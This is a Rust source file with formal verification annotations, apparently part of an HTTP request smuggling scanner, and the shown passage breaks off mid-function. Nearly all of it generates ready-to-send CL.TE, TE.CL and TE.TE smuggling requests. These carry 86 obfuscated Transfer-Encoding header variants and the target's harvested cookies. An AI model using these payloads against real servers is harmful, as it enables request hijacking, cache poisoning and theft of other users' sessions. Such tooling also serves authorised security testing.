//! The catalogue of attack requests: for each check category the list of
//! ready-to-send requests, made from the target's path and host, the method,
//! the caller's extra header lines and the cookies that were harvested.

use vstd::prelude::*;
use vstd::string::*;
use crate::text::{
    chars_of, contains_chars, has_substring, join, joined, lowercase, push_str, push_text,
    texts_of, to_lowercase,
};

verus! {

/// The caller's header lines as they stand in a request: each line followed by
/// a line ending, nothing where there are none.
pub open spec fn custom_header_block(headers: Seq<Seq<char>>) -> Seq<char> {
    if headers.len() == 0 {
        Seq::empty()
    } else {
        joined(headers, "\r\n"@) + "\r\n"@
    }
}

/// Formats the caller's header lines for a request.
pub fn format_custom_headers(custom_headers: &[String]) -> (block: String)
    ensures
        block@ == custom_header_block(texts_of(custom_headers@)),
{
    if custom_headers.len() == 0 {
        String::new()
    } else {
        let mut block = join(custom_headers, "\r\n");
        block.append("\r\n");
        block
    }
}

/// The cookies as one `Cookie` header line, nothing where there are none.
pub open spec fn cookie_block(cookies: Seq<Seq<char>>) -> Seq<char> {
    if cookies.len() == 0 {
        Seq::empty()
    } else {
        "Cookie: "@ + joined(cookies, "; "@) + "\r\n"@
    }
}

/// Formats the cookies as a `Cookie` header line.
pub fn format_cookies(cookies: &[String]) -> (block: String)
    ensures
        block@ == cookie_block(texts_of(cookies@)),
{
    if cookies.len() == 0 {
        String::new()
    } else {
        let mut block = String::from_str("Cookie: ");
        let list = join(cookies, "; ");
        block.append(list.as_str());
        block.append("\r\n");
        block
    }
}

/// The character that a lone byte decodes to when invalid UTF-8 is replaced:
/// an ASCII byte is its character, any other byte the replacement character.
pub open spec fn lossy_char(byte: u8) -> char {
    if byte < 0x80 {
        byte as char
    } else {
        '\u{FFFD}'
    }
}

/// One byte decoded as text (`String::from_utf8_lossy` on a slice of that one
/// byte): an ASCII byte gives its character; a byte from 0x80 on is no valid
/// UTF-8 by itself and gives the replacement character U+FFFD.
#[verifier::external_body]
fn lossy_byte(byte: u8) -> (text: String)
    ensures
        text@ == seq![lossy_char(byte)],
{
    String::from_utf8_lossy(&[byte]).into_owned()
}

/// A header line with one decoded byte in it.
pub open spec fn around(before: Seq<char>, byte: u8, after: Seq<char>) -> Seq<char> {
    before + seq![lossy_char(byte)] + after
}

/// Puts a header line with one decoded byte in it at the end of a list.
fn push_around(list: &mut Vec<String>, before: &str, byte: u8, after: &str)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@).push(around(before@, byte, after@)),
{
    let mut line = String::from_str(before);
    let decoded = lossy_byte(byte);
    line.append(decoded.as_str());
    line.append(after);
    push_text(list, line);
}

/// The header as it is written in well-formed requests.
pub open spec fn vanilla_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding: chunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_vanilla_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + vanilla_te_headers(),
{
    push_str(list, "Transfer-Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + vanilla_te_headers());
}

/// White space before the name, around the colon and after the value.
pub open spec fn spaced_te_headers() -> Seq<Seq<char>> {
    seq![
        " Transfer-Encoding: chunked"@,
        "\tTransfer-Encoding: chunked"@,
        "Transfer-Encoding : chunked"@,
        "Transfer-Encoding  : chunked"@,
        "Transfer-Encoding\t: chunked"@,
        "Transfer-Encoding:\tchunked"@,
        "Transfer-Encoding\t:\tchunked"@,
        "Transfer-Encoding:  chunked"@,
        "Transfer-Encoding:chunked"@,
        "Transfer-Encoding: chunked "@,
        "Transfer-Encoding: chunked\t"@,
        "Transfer-Encoding: chunked\r"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_spaced_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + spaced_te_headers(),
{
    push_str(list, " Transfer-Encoding: chunked");
    push_str(list, "\tTransfer-Encoding: chunked");
    push_str(list, "Transfer-Encoding : chunked");
    push_str(list, "Transfer-Encoding  : chunked");
    push_str(list, "Transfer-Encoding\t: chunked");
    push_str(list, "Transfer-Encoding:\tchunked");
    push_str(list, "Transfer-Encoding\t:\tchunked");
    push_str(list, "Transfer-Encoding:  chunked");
    push_str(list, "Transfer-Encoding:chunked");
    push_str(list, "Transfer-Encoding: chunked ");
    push_str(list, "Transfer-Encoding: chunked\t");
    push_str(list, "Transfer-Encoding: chunked\r");
    assert(texts_of(list@) =~= texts_of(old(list)@) + spaced_te_headers());
}

/// The header folded over several lines, or hidden in the fold of another header.
pub open spec fn folded_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding:\n chunked"@,
        "Transfer-Encoding:\r\n chunked"@,
        "Transfer-Encoding:\r\n\tchunked"@,
        "Transfer-Encoding\r\n : chunked"@,
        "Transfer-Encoding:\r\n \r\n chunked"@,
        "Foo: bar\r\n Transfer-Encoding: chunked"@,
        "Foo: bar\r\n\tTransfer-Encoding: chunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_folded_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + folded_te_headers(),
{
    push_str(list, "Transfer-Encoding:\n chunked");
    push_str(list, "Transfer-Encoding:\r\n chunked");
    push_str(list, "Transfer-Encoding:\r\n\tchunked");
    push_str(list, "Transfer-Encoding\r\n : chunked");
    push_str(list, "Transfer-Encoding:\r\n \r\n chunked");
    push_str(list, "Foo: bar\r\n Transfer-Encoding: chunked");
    push_str(list, "Foo: bar\r\n\tTransfer-Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + folded_te_headers());
}

/// A vertical tab or a form feed around the value.
pub open spec fn control_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding:\x0Bchunked"@,
        "Transfer-Encoding: \x0Bchunked"@,
        "Transfer-Encoding:\x0Cchunked"@,
        "Transfer-Encoding: chunked\n\x0B"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_control_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + control_te_headers(),
{
    push_str(list, "Transfer-Encoding:\x0Bchunked");
    push_str(list, "Transfer-Encoding: \x0Bchunked");
    push_str(list, "Transfer-Encoding:\x0Cchunked");
    push_str(list, "Transfer-Encoding: chunked\n\x0B");
    assert(texts_of(list@) =~= texts_of(old(list)@) + control_te_headers());
}

/// A NUL or a DEL byte before, inside or after the header.
pub open spec fn null_and_delete_te_headers() -> Seq<Seq<char>> {
    seq![
        "\x00Transfer-Encoding: chunked"@,
        "Transfer-Encoding\x00: chunked"@,
        "Transfer-Encoding: chunked\x00"@,
        "\x7FTransfer-Encoding: chunked"@,
        "Transfer-Encoding\x7F: chunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_null_and_delete_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + null_and_delete_te_headers(),
{
    push_str(list, "\x00Transfer-Encoding: chunked");
    push_str(list, "Transfer-Encoding\x00: chunked");
    push_str(list, "Transfer-Encoding: chunked\x00");
    push_str(list, "\x7FTransfer-Encoding: chunked");
    push_str(list, "Transfer-Encoding\x7F: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + null_and_delete_te_headers());
}

/// The value in quotes.
pub open spec fn quoted_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding: \"chunked\""@,
        "Transfer-Encoding: 'chunked'"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_quoted_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + quoted_te_headers(),
{
    push_str(list, "Transfer-Encoding: \"chunked\"");
    push_str(list, "Transfer-Encoding: 'chunked'");
    assert(texts_of(list@) =~= texts_of(old(list)@) + quoted_te_headers());
}

/// Several encodings in one value.
pub open spec fn listed_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding: chunked, identity"@,
        "Transfer-Encoding: identity, chunked"@,
        "Transfer-Encoding: chunked,identity"@,
        "Transfer-Encoding: identity,chunked"@,
        "Transfer-Encoding: chunked , identity"@,
        "Transfer-Encoding: identity, chunked, identity"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_listed_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + listed_te_headers(),
{
    push_str(list, "Transfer-Encoding: chunked, identity");
    push_str(list, "Transfer-Encoding: identity, chunked");
    push_str(list, "Transfer-Encoding: chunked,identity");
    push_str(list, "Transfer-Encoding: identity,chunked");
    push_str(list, "Transfer-Encoding: chunked , identity");
    push_str(list, "Transfer-Encoding: identity, chunked, identity");
    assert(texts_of(list@) =~= texts_of(old(list)@) + listed_te_headers());
}

/// The hyphen of the name replaced by another character.
pub open spec fn renamed_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer_Encoding: chunked"@,
        "Transfer Encoding: chunked"@,
        "Transfer\\Encoding: chunked"@,
        "Transfer\x00Encoding: chunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_renamed_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + renamed_te_headers(),
{
    push_str(list, "Transfer_Encoding: chunked");
    push_str(list, "Transfer Encoding: chunked");
    push_str(list, "Transfer\\Encoding: chunked");
    push_str(list, "Transfer\x00Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + renamed_te_headers());
}

/// The name and the value in other cases.
pub open spec fn recased_te_headers() -> Seq<Seq<char>> {
    seq![
        "transfer-encoding: chunked"@,
        "TRANSFER-ENCODING: chunked"@,
        "TRANSFER-ENCODING: CHUNKED"@,
        "tRaNsFeR-eNcOdInG: cHuNkEd"@,
        "Transfer-encoding: chunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_recased_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + recased_te_headers(),
{
    push_str(list, "transfer-encoding: chunked");
    push_str(list, "TRANSFER-ENCODING: chunked");
    push_str(list, "TRANSFER-ENCODING: CHUNKED");
    push_str(list, "tRaNsFeR-eNcOdInG: cHuNkEd");
    push_str(list, "Transfer-encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + recased_te_headers());
}

/// The value cut short or in another case.
pub open spec fn revalued_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding: chunk"@,
        "Transfer-Encoding: CHUNKED"@,
        "Transfer-Encoding:  Chunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_revalued_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + revalued_te_headers(),
{
    push_str(list, "Transfer-Encoding: chunk");
    push_str(list, "Transfer-Encoding: CHUNKED");
    push_str(list, "Transfer-Encoding:  Chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + revalued_te_headers());
}

/// The header after a line that ends in a bare carriage return or line feed.
pub open spec fn misended_te_headers() -> Seq<Seq<char>> {
    seq![
        "Foo: bar\rTransfer-Encoding: chunked"@,
        "Foo: bar\nTransfer-Encoding: chunked"@,
        "Foo: bar\r\n\rTransfer-Encoding: chunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_misended_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + misended_te_headers(),
{
    push_str(list, "Foo: bar\rTransfer-Encoding: chunked");
    push_str(list, "Foo: bar\nTransfer-Encoding: chunked");
    push_str(list, "Foo: bar\r\n\rTransfer-Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + misended_te_headers());
}

/// A carriage return inside the name or before the value.
pub open spec fn cr_injected_te_headers() -> Seq<Seq<char>> {
    seq![
        "Tra\rnsfer-Encoding: chunked"@,
        "Transfer-\rEncoding: chunked"@,
        "Transfer-Encoding:\r chunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_cr_injected_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + cr_injected_te_headers(),
{
    push_str(list, "Tra\rnsfer-Encoding: chunked");
    push_str(list, "Transfer-\rEncoding: chunked");
    push_str(list, "Transfer-Encoding:\r chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + cr_injected_te_headers());
}

/// Junk in the name, in the value or in the line before.
pub open spec fn junk_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding x: chunked"@,
        "Transfer-Encoding: x chunked"@,
        "X: y\r\nTransfer-Encoding: chunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_junk_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + junk_te_headers(),
{
    push_str(list, "Transfer-Encoding x: chunked");
    push_str(list, "Transfer-Encoding: x chunked");
    push_str(list, "X: y\r\nTransfer-Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + junk_te_headers());
}

/// One letter of the name or of the value percent-encoded.
pub open spec fn url_encoded_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer-%45ncoding: chunked"@,
        "Transfer-Encoding: %63hunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_url_encoded_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + url_encoded_te_headers(),
{
    push_str(list, "Transfer-%45ncoding: chunked");
    push_str(list, "Transfer-Encoding: %63hunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + url_encoded_te_headers());
}

/// The value as a MIME encoded word.
pub open spec fn mime_encoded_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding: =?iso-8859-1?B?Y2h1bmtlZA==?="@,
        "Transfer-Encoding: =?UTF-8?B?Y2h1bmtlZA==?="@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_mime_encoded_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + mime_encoded_te_headers(),
{
    push_str(list, "Transfer-Encoding: =?iso-8859-1?B?Y2h1bmtlZA==?=");
    push_str(list, "Transfer-Encoding: =?UTF-8?B?Y2h1bmtlZA==?=");
    assert(texts_of(list@) =~= texts_of(old(list)@) + mime_encoded_te_headers());
}

/// The header as a client of HTTP/1.0 sends it.
pub open spec fn http10_te_headers() -> Seq<Seq<char>> {
    seq![
        "Transfer-Encoding: chunked"@,
    ]
}

/// Puts these at the end of a list, in this order.
fn push_http10_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + http10_te_headers(),
{
    push_str(list, "Transfer-Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + http10_te_headers());
}

/// A byte above 0x7F in the name or in the value.
pub open spec fn high_byte_te_headers() -> Seq<Seq<char>> {
    seq![
        around("Transfer-Encoding"@, 0x85, ": chunked"@),
        around("Transfer-Encoding"@, 0xA0, ": chunked"@),
        around("Transfer"@, 0xAD, "Encoding: chunked"@),
        around("Transfer-Encoding:"@, 0xA0, "chunked"@),
        around("Transfer-Encoding: "@, 0xFF, "chunked"@),
        around("Transf"@, 0x82, "r-Encoding: chunked"@),
        around("Transfer-Encoding: ch"@, 0x96, "nked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_high_byte_te_headers(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + high_byte_te_headers(),
{
    push_around(list, "Transfer-Encoding", 0x85, ": chunked");
    push_around(list, "Transfer-Encoding", 0xA0, ": chunked");
    push_around(list, "Transfer", 0xAD, "Encoding: chunked");
    push_around(list, "Transfer-Encoding:", 0xA0, "chunked");
    push_around(list, "Transfer-Encoding: ", 0xFF, "chunked");
    push_around(list, "Transf", 0x82, "r-Encoding: chunked");
    push_around(list, "Transfer-Encoding: ch", 0x96, "nked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + high_byte_te_headers());
}

/// The control bytes that are put before the header name: NUL, LF, VT, FF, CR
/// and DEL. Tab and space are left out: the white space variations hold them.
pub open spec fn leading_control_bytes() -> Seq<u8> {
    seq![0x00u8, 0x0Au8, 0x0Bu8, 0x0Cu8, 0x0Du8, 0x7Fu8]
}

/// The control bytes that are put after the value and after the header name:
/// NUL, TAB, VT, FF and DEL.
pub open spec fn trailing_control_bytes() -> Seq<u8> {
    seq![0x00u8, 0x09u8, 0x0Bu8, 0x0Cu8, 0x7Fu8]
}

/// One header line for each of the bytes.
pub open spec fn around_each(before: Seq<char>, bytes: Seq<u8>, after: Seq<char>) -> Seq<Seq<char>> {
    bytes.map_values(|b: u8| around(before, b, after))
}

/// Puts one header line for each of the bytes at the end of a list.
fn push_around_each(list: &mut Vec<String>, before: &str, bytes: &Vec<u8>, after: &str)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + around_each(before@, bytes@, after@),
{
    let ghost start = texts_of(list@);
    let ghost lines = around_each(before@, bytes@, after@);
    let mut i: usize = 0;
    assert(texts_of(list@) =~= start + lines.take(0));
    while i < bytes.len()
        invariant
            i <= bytes.len(),
            lines == around_each(before@, bytes@, after@),
            texts_of(list@) == start + lines.take(i as int),
        decreases bytes.len() - i,
    {
        push_around(list, before, bytes[i], after);
        i += 1;
        assert(texts_of(list@) =~= start + lines.take(i as int));
    }
    assert(lines.take(bytes.len() as int) =~= lines);
}

/// All variations of the `Transfer-Encoding` header, in the order in which
/// they are tried.
pub open spec fn te_header_texts() -> Seq<Seq<char>> {
    vanilla_te_headers()
        + spaced_te_headers()
        + folded_te_headers()
        + control_te_headers()
        + null_and_delete_te_headers()
        + quoted_te_headers()
        + listed_te_headers()
        + renamed_te_headers()
        + recased_te_headers()
        + revalued_te_headers()
        + misended_te_headers()
        + cr_injected_te_headers()
        + junk_te_headers()
        + url_encoded_te_headers()
        + mime_encoded_te_headers()
        + http10_te_headers()
        + high_byte_te_headers()
        + around_each(""@, leading_control_bytes(), "Transfer-Encoding: chunked"@)
        + around_each("Transfer-Encoding: chunked"@, trailing_control_bytes(), ""@)
        + around_each("Transfer-Encoding"@, trailing_control_bytes(), ": chunked"@)
}

/// Generates the variations of the `Transfer-Encoding` header that the CL.TE
/// and TE.CL requests are made with.
pub fn get_te_header_variations() -> (headers: Vec<String>)
    ensures
        texts_of(headers@) == te_header_texts(),
        headers.len() == 86,
{
    let mut headers: Vec<String> = Vec::new();
    assert(texts_of(headers@) =~= Seq::<Seq<char>>::empty());
    push_vanilla_te_headers(&mut headers);
    assert(texts_of(headers@) =~= vanilla_te_headers());
    push_spaced_te_headers(&mut headers);
    push_folded_te_headers(&mut headers);
    push_control_te_headers(&mut headers);
    push_null_and_delete_te_headers(&mut headers);
    push_quoted_te_headers(&mut headers);
    push_listed_te_headers(&mut headers);
    push_renamed_te_headers(&mut headers);
    push_recased_te_headers(&mut headers);
    push_revalued_te_headers(&mut headers);
    push_misended_te_headers(&mut headers);
    push_cr_injected_te_headers(&mut headers);
    push_junk_te_headers(&mut headers);
    push_url_encoded_te_headers(&mut headers);
    push_mime_encoded_te_headers(&mut headers);
    push_http10_te_headers(&mut headers);
    push_high_byte_te_headers(&mut headers);
    let leading: Vec<u8> = vec![0x00, 0x0A, 0x0B, 0x0C, 0x0D, 0x7F];
    let trailing: Vec<u8> = vec![0x00, 0x09, 0x0B, 0x0C, 0x7F];
    assert(leading@ =~= leading_control_bytes());
    assert(trailing@ =~= trailing_control_bytes());
    push_around_each(&mut headers, "", &leading, "Transfer-Encoding: chunked");
    push_around_each(&mut headers, "Transfer-Encoding: chunked", &trailing, "");
    push_around_each(&mut headers, "Transfer-Encoding", &trailing, ": chunked");
    assert(texts_of(headers@).len() == headers.len());
    headers
}

/// The beginning of a request: the request line, the `Host` header, the
/// caller's header lines and the cookies.
pub open spec fn request_head(
    method: Seq<char>,
    path: Seq<char>,
    host: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
) -> Seq<char> {
    method + " "@ + path + " HTTP/1.1\r\nHost: "@ + host + "\r\n"@ + custom_header_block(
        custom_headers,
    ) + cookie_block(cookies)
}

/// Makes the beginning of a request.
fn make_request_head(
    method: &str,
    path: &str,
    host: &str,
    custom_headers: &[String],
    cookies: &[String],
) -> (head: String)
    ensures
        head@ == request_head(
            method@,
            path@,
            host@,
            texts_of(custom_headers@),
            texts_of(cookies@),
        ),
{
    let mut head = String::from_str(method);
    head.append(" ");
    head.append(path);
    head.append(" HTTP/1.1\r\nHost: ");
    head.append(host);
    head.append("\r\n");
    head.append(format_custom_headers(custom_headers).as_str());
    head.append(format_cookies(cookies).as_str());
    head
}

/// The beginning of a request that asks for the connection to be kept alive.
pub open spec fn keep_alive_head(
    method: Seq<char>,
    path: Seq<char>,
    host: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
) -> Seq<char> {
    method + " "@ + path + " HTTP/1.1\r\nHost: "@ + host + "\r\nConnection: keep-alive\r\n"@
        + custom_header_block(custom_headers) + cookie_block(cookies)
}

/// Makes the beginning of a request that asks for the connection to be kept alive.
fn make_keep_alive_head(
    method: &str,
    path: &str,
    host: &str,
    custom_headers: &[String],
    cookies: &[String],
) -> (head: String)
    ensures
        head@ == keep_alive_head(
            method@,
            path@,
            host@,
            texts_of(custom_headers@),
            texts_of(cookies@),
        ),
{
    let mut head = String::from_str(method);
    head.append(" ");
    head.append(path);
    head.append(" HTTP/1.1\r\nHost: ");
    head.append(host);
    head.append("\r\nConnection: keep-alive\r\n");
    head.append(format_custom_headers(custom_headers).as_str());
    head.append(format_cookies(cookies).as_str());
    head
}

/// Each item with `before` in front of it and `after` behind it.
pub open spec fn wrapped(before: Seq<char>, items: Seq<Seq<char>>, after: Seq<char>) -> Seq<
    Seq<char>,
> {
    items.map_values(|item: Seq<char>| before + item + after)
}

/// Each tail with `head` in front of it.
pub open spec fn prefixed(head: Seq<char>, tails: Seq<Seq<char>>) -> Seq<Seq<char>> {
    tails.map_values(|tail: Seq<char>| head + tail)
}

/// Puts `before`, `middle` and `after`, written as one text, at the end of a list.
fn push_between(list: &mut Vec<String>, before: &str, middle: &str, after: &str)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@).push(before@ + middle@ + after@),
{
    let mut text = String::from_str(before);
    text.append(middle);
    text.append(after);
    push_text(list, text);
}

/// Makes a header line with one decoded byte in it.
fn around_text(before: &str, byte: u8, after: &str) -> (line: String)
    ensures
        line@ == around(before@, byte, after@),
{
    let mut line = String::from_str(before);
    let decoded = lossy_byte(byte);
    line.append(decoded.as_str());
    line.append(after);
    line
}

/// Wraps each item in `before` and `after`.
fn wrap_each(before: &str, items: &Vec<String>, after: &str) -> (wrapped_items: Vec<String>)
    ensures
        texts_of(wrapped_items@) == wrapped(before@, texts_of(items@), after@),
{
    let mut wrapped_items: Vec<String> = Vec::new();
    let mut i: usize = 0;
    while i < items.len()
        invariant
            i <= items.len(),
            wrapped_items.len() == i,
            forall|j: int| 0 <= j < i ==> wrapped_items@[j]@ == before@ + items@[j]@ + after@,
        decreases items.len() - i,
    {
        let mut text = String::from_str(before);
        text.append(items[i].as_str());
        text.append(after);
        wrapped_items.push(text);
        i += 1;
    }
    assert(texts_of(wrapped_items@) =~= wrapped(before@, texts_of(items@), after@));
    wrapped_items
}

/// Puts `head` in front of each tail.
fn prefix_each(head: &str, tails: &Vec<String>) -> (requests: Vec<String>)
    ensures
        texts_of(requests@) == prefixed(head@, texts_of(tails@)),
{
    let mut requests: Vec<String> = Vec::new();
    let mut i: usize = 0;
    while i < tails.len()
        invariant
            i <= tails.len(),
            requests.len() == i,
            forall|j: int| 0 <= j < i ==> requests@[j]@ == head@ + tails@[j]@,
        decreases tails.len() - i,
    {
        let mut text = String::from_str(head);
        text.append(tails[i].as_str());
        requests.push(text);
        i += 1;
    }
    assert(texts_of(requests@) =~= prefixed(head@, texts_of(tails@)));
    requests
}


/// The CL.TE requests: one for each variation of the `Transfer-Encoding`
/// header, on a connection that is kept alive.
pub open spec fn cl_te_payloads_of(
    path: Seq<char>,
    host: Seq<char>,
    method: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
) -> Seq<Seq<char>> {
    prefixed(
        keep_alive_head(method, path, host, custom_headers, cookies),
        wrapped("Content-Length: 6\r\n"@, te_header_texts(), "\r\n\r\n0\r\n\r\nG"@),
    )
}

/// Generates the CL.TE attack requests.
pub fn get_cl_te_payloads(
    path: &str,
    host: &str,
    method: &str,
    custom_headers: &[String],
    cookies: &[String],
) -> (payloads: Vec<String>)
    ensures
        texts_of(payloads@) == cl_te_payloads_of(
            path@,
            host@,
            method@,
            texts_of(custom_headers@),
            texts_of(cookies@),
        ),
        payloads.len() == 86,
{
    let te_headers = get_te_header_variations();
    let head = make_keep_alive_head(method, path, host, custom_headers, cookies);
    let tails = wrap_each("Content-Length: 6\r\n", &te_headers, "\r\n\r\n0\r\n\r\nG");
    let payloads = prefix_each(head.as_str(), &tails);
    assert(texts_of(payloads@).len() == payloads.len());
    payloads
}

/// The TE.CL requests: one for each variation of the `Transfer-Encoding`
/// header, on a connection that is kept alive.
pub open spec fn te_cl_payloads_of(
    path: Seq<char>,
    host: Seq<char>,
    method: Seq<char>,
    custom_headers: Seq<Seq<char>>,
    cookies: Seq<Seq<char>>,
) -> Seq<Seq<char>> {
    prefixed(
        keep_alive_head(method, path, host, custom_headers, cookies),
        wrapped("Content-Length: 4\r\n"@, te_header_texts(), "\r\n\r\n1\r\nA\r\n0\r\n\r\n"@),
    )
}

/// Generates the TE.CL attack requests.
pub fn get_te_cl_payloads(
    path: &str,
    host: &str,
    method: &str,
    custom_headers: &[String],
    cookies: &[String],
) -> (payloads: Vec<String>)
    ensures
        texts_of(payloads@) == te_cl_payloads_of(
            path@,
            host@,
            method@,
            texts_of(custom_headers@),
            texts_of(cookies@),
        ),
        payloads.len() == 86,
{
    let te_headers = get_te_header_variations();
    let head = make_keep_alive_head(method, path, host, custom_headers, cookies);
    let tails = wrap_each("Content-Length: 4\r\n", &te_headers, "\r\n\r\n1\r\nA\r\n0\r\n\r\n");
    let payloads = prefix_each(head.as_str(), &tails);
    assert(texts_of(payloads@).len() == payloads.len());
    payloads
}

/// The end of a TE.TE request: a `Content-Length` header, the two
/// `Transfer-Encoding` headers, and a chunked body.
pub open spec fn dual(first: Seq<char>, second: Seq<char>) -> Seq<char> {
    "Content-Length: 4\r\n"@ + first + "\r\n"@ + second + "\r\n\r\n1\r\nA\r\n0\r\n\r\n"@
}

/// Puts the end of a TE.TE request at the end of a list.
fn push_dual(list: &mut Vec<String>, first: &str, second: &str)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@).push(dual(first@, second@)),
{
    let mut tail = String::from_str("Content-Length: 4\r\n");
    tail.append(first);
    tail.append("\r\n");
    tail.append(second);
    tail.append("\r\n\r\n1\r\nA\r\n0\r\n\r\n");
    push_text(list, tail);
}

/// A second header that names another encoding.
pub open spec fn dual_basic() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: identity"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: x-custom"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: cow"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: compress"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: deflate"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: gzip"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_basic(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_basic(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: identity");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: x-custom");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: cow");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: compress");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: deflate");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: gzip");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_basic());
}

/// The two headers in the other order.
pub open spec fn dual_reversed() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: identity"@, "Transfer-Encoding: chunked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_reversed(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_reversed(),
{
    push_dual(list, "Transfer-Encoding: identity", "Transfer-Encoding: chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_reversed());
}

/// A second header that lists several encodings.
pub open spec fn dual_combined() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: gzip, chunked"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: chunked, identity"@),
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: identity, chunked"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_combined(list: &mut Vec<String>)
    ensures
        texts_of(final(list)@) == texts_of(old(list)@) + dual_combined(),
{
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: gzip, chunked");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: chunked, identity");
    push_dual(list, "Transfer-Encoding: chunked", "Transfer-Encoding: identity, chunked");
    assert(texts_of(list@) =~= texts_of(old(list)@) + dual_combined());
}

/// A second header with `chunked` between two other encodings.
pub open spec fn dual_nested() -> Seq<Seq<char>> {
    seq![
        dual("Transfer-Encoding: chunked"@, "Transfer-Encoding: identity, chunked, identity"@),
    ]
}

/// Puts these at the end of a list, in this order.
fn push_dual_nested(list: &mut Vec<String>)
    ensures
